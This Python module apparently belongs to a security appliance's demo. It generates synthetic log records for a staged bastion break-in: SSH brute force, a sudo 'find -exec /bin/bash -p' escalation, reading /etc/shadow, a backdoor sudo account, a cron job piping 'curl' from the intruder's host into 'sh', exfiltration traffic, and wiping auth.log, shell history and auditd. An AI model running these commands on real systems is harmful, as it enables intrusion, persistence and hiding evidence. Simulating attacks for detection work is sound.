"""Stages 3 to 7 and 9 to 11 of the break-in: what happens on the bastion and leaves through it."""

import random
from collections.abc import Iterator, Sequence
from datetime import datetime, timedelta

from appliance.demo.company import Company, randomness
from appliance.demo.firewall_logs import traffic
from appliance.demo.hours import seconds
from appliance.demo.linux_logs import (
    CRON,
    audit,
    cron,
    executed,
    logout,
    session_opened,
    sshd,
    sudo,
    syslog,
)
from appliance.demo.message import DemoMessage

_GUESSED = "root admin test oracle postgres ubuntu git user guest ftp mysql support deploy"
_TERMINAL = "pts/4"
_LOOKING = (
    (("whoami",), "/usr/bin/whoami"),
    (("id",), "/usr/bin/id"),
    (("uname", "-a"), "/usr/bin/uname"),
    (("cat", "/etc/passwd"), "/usr/bin/cat"),
    (("getcap", "-r", "/"), "/usr/sbin/getcap"),
    (("find", "/", "-perm", "-4000", "-type", "f"), "/usr/bin/find"),
)


class _Bastion:
    """What the intruder has on the bastion: a process, a terminal, the next audit number."""

    def __init__(self, chance: random.Random, company: Company) -> None:
        self.company = company
        self.machine = company.bastion
        self.victim = company.intruder.victim
        self.chance = chance
        self.process_id = chance.randrange(20_000, 50_000)
        self.port = chance.randrange(40_000, 60_000)
        self._serial = chance.randrange(100_000, 900_000)

    def runs(
        self,
        time: datetime,
        command: Sequence[str],
        executable: str,
        *,
        as_root: bool,
        key: str = "exec",
        touches: Sequence[tuple[str, str]] = (),
    ) -> Iterator[DemoMessage]:
        """A command's audit records."""
        self._serial += 1
        yield from executed(
            time,
            self.machine,
            self._serial,
            command,
            executable=executable,
            login_uid=self.victim.uid,
            uid=0 if as_root else self.victim.uid,
            process_id=self.process_id + self._serial % 1_000,
            terminal=_TERMINAL.replace("/", ""),
            key=key,
            touches=touches,
        )

    def record(self, time: datetime, kind: str, body: str) -> DemoMessage:
        """A single audit record."""
        self._serial += 1
        return audit(time, self.machine, self._serial, kind, body)


def stages(company: Company, seed: int, end: datetime) -> Iterator[DemoMessage]:
    """The stages on the bastion, from 42 to 11 minutes before the end."""
    chance = randomness(seed, "break-in")
    bastion = _Bastion(chance, company)
    yield from _brute_force(bastion, end - timedelta(minutes=42))
    yield from _login(bastion, end - timedelta(minutes=36))
    yield from _looking_around(bastion, end - timedelta(minutes=35))
    yield from _escalation(bastion, end - timedelta(minutes=32))
    yield from _account_left_behind(bastion, end - timedelta(minutes=30))
    yield from _ways_back(bastion, end - timedelta(minutes=29))
    yield from _data_leaves(bastion, end - timedelta(minutes=20))
    yield from _traces_wiped(bastion, end - timedelta(minutes=14))
    yield from _gone(bastion, end - timedelta(minutes=11))


def _brute_force(bastion: _Bastion, time: datetime) -> Iterator[DemoMessage]:
    """Names from a list and, more often as it goes on, names of employees."""
    chance, company = bastion.chance, bastion.company
    address, machine = company.intruder.address, bastion.machine
    employees = [person.account for person in company.people]
    for attempt in range(170):
        time += seconds(chance, 0.8, 2.4)
        process_id, port = 9_000 + attempt * 3, chance.randrange(32_768, 60_999)
        known = chance.random() < 0.2 + attempt / 400
        name = chance.choice(employees) if known else chance.choice(_GUESSED.split())
        exists = known or name == "root"
        if not exists:
            text = f"Invalid user {name} from {address} port {port}"
            yield sshd(time, machine, process_id, text)
        text = (
            "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser="
            f" rhost={address} {f' user={name}' if exists else ''}"
        )
        yield syslog(time + timedelta(milliseconds=30), machine, "sshd", process_id, text)
        shown = name if exists else f"invalid user {name}"
        text = f"Failed password for {shown} from {address} port {port} ssh2"
        yield sshd(time + timedelta(milliseconds=600), machine, process_id, text)


def _login(bastion: _Bastion, time: datetime) -> Iterator[DemoMessage]:
    """One guess too many was right."""
    victim, address = bastion.victim, bastion.company.intruder.address
    text = f"Accepted password for {victim.account} from {address} port {bastion.port} ssh2"
    yield sshd(time, bastion.machine, bastion.process_id, text)
    opened = time + timedelta(milliseconds=50)
    yield session_opened(opened, bastion.machine, bastion.process_id, victim.account, victim.uid)


def _looking_around(bastion: _Bastion, time: datetime) -> Iterator[DemoMessage]:
    for command, executable in _LOOKING:
        yield from bastion.runs(time, command, executable, as_root=False)
        time += seconds(bastion.chance, 6, 20)


def _escalation(bastion: _Bastion, time: datetime) -> Iterator[DemoMessage]:
    """A shell is refused, but find is allowed, and find starts a shell."""
    victim, machine = bastion.victim, bastion.machine
    process_id = bastion.process_id + 300
    for command, reason in (
        ("/bin/bash", "command not allowed"),
        ("/usr/bin/find . -exec /bin/bash -p ; -quit", ""),
    ):
        yield sudo(
            time, machine, process_id, victim.account, command, terminal=_TERMINAL, reason=reason
        )
        time += seconds(bastion.chance, 8, 15)
    text = (
        "pam_unix(sudo:session): session opened for user root(uid=0)"
        f" by {victim.account}(uid={victim.uid})"
    )
    yield syslog(time, machine, "sudo", process_id, text)
    time += timedelta(milliseconds=200)
    yield from bastion.runs(time, ("/bin/bash", "-p"), "/usr/bin/bash", as_root=True)
    time += seconds(bastion.chance, 5, 9)
    yield from bastion.runs(
        time,
        ("cat", "/etc/shadow"),
        "/usr/bin/cat",
        as_root=True,
        key="secrets",
        touches=[("/etc/shadow", "NORMAL")],
    )


def _account_left_behind(bastion: _Bastion, time: datetime) -> Iterator[DemoMessage]:
    """A new account that looks like a service, with all rights."""
    account, machine = bastion.company.intruder.account, bastion.machine
    process_id = bastion.process_id + 400
    uid = max(person.uid for person in bastion.company.people) + 1
    command = ("useradd", "-m", "-s", "/bin/bash", account)
    yield from bastion.runs(time, command, "/usr/sbin/useradd", as_root=True)
    for program, text in (
        ("useradd", f"new group: name={account}, GID={uid}"),
        (
            "useradd",
            f"new user: name={account}, UID={uid}, GID={uid}, home=/home/{account},"
            f" shell=/bin/bash, from=/dev/{_TERMINAL}",
        ),
        ("passwd", f"pam_unix(passwd:chauthtok): password changed for {account}"),
        ("usermod", f"add '{account}' to group 'sudo'"),
        ("usermod", f"add '{account}' to shadow group 'sudo'"),
    ):
        time += seconds(bastion.chance, 0.2, 3)
        yield syslog(time, machine, program, process_id, text)


def _ways_back(bastion: _Bastion, time: datetime) -> Iterator[DemoMessage]:
    """A key for root, a job that fetches and runs, a unit, and files that resist removal."""
    chance, machine, address = bastion.chance, bastion.machine, bastion.company.intruder.address
    keys = "/root/.ssh/authorized_keys"
    yield from bastion.runs(
        time,
        ("tee", "-a", keys),
        "/usr/bin/tee",
        as_root=True,
        key="keys",
        touches=[(keys, "CREATE")],
    )
    time += seconds(chance, 5, 12)
    yield from bastion.runs(time, ("chattr", "+i", keys), "/usr/bin/chattr", as_root=True)
    time += seconds(chance, 10, 20)
    text = "(root) REPLACE (root)"
    yield syslog(time, machine, "crontab", bastion.process_id + 410, text, facility=CRON)
    time += seconds(chance, 10, 20)
    unit = f"{bastion.company.intruder.account}.service"
    command = ("systemctl", "enable", "--now", unit)
    yield from bastion.runs(time, command, "/usr/bin/systemctl", as_root=True)
    job = f"curl -fsSL http://{address}/u.sh | sh"
    for _ in range(3):
        time = (time + timedelta(minutes=1)).replace(second=1, microsecond=chance.randrange(10**6))
        yield cron(time, machine, chance.randrange(30_000, 60_000), "root", job)


def _data_leaves(bastion: _Bastion, time: datetime) -> Iterator[DemoMessage]:
    """Five uploads of hundreds of megabytes to where the login came from."""
    chance, company = bastion.chance, bastion.company
    for _ in range(5):
        yield traffic(
            time,
            company,
            (bastion.machine.address, chance.randrange(40_000, 60_000)),
            (company.intruder.address, 443),
            "accept",
            sent_bytes=chance.randrange(300, 800) * 2**20,
            received_bytes=chance.randrange(10_000, 90_000),
            seconds=chance.randrange(20, 40),
        )
        time += seconds(chance, 30, 45)


def _traces_wiped(bastion: _Bastion, time: datetime) -> Iterator[DemoMessage]:
    """The log of logins, the shell's history, and the watcher itself."""
    chance = bastion.chance
    for command, executable, touches in (
        (
            ("truncate", "-s", "0", "/var/log/auth.log"),
            "/usr/bin/truncate",
            [("/var/log/auth.log", "NORMAL")],
        ),
        (
            ("rm", "-f", "/root/.bash_history"),
            "/usr/bin/rm",
            [("/root/.bash_history", "DELETE")],
        ),
        (("systemctl", "stop", "auditd"), "/usr/bin/systemctl", []),
    ):
        yield from bastion.runs(
            time, command, executable, as_root=True, key="logs", touches=touches
        )
        time += seconds(chance, 15, 40)
    yield bastion.record(
        time, "DAEMON_END", "op=terminate auid=0 uid=0 ses=4294967295 pid=1 res=success"
    )


def _gone(bastion: _Bastion, time: datetime) -> Iterator[DemoMessage]:
    yield from logout(
        time,
        bastion.machine,
        bastion.process_id,
        bastion.victim.account,
        bastion.company.intruder.address,
        bastion.port,
    )
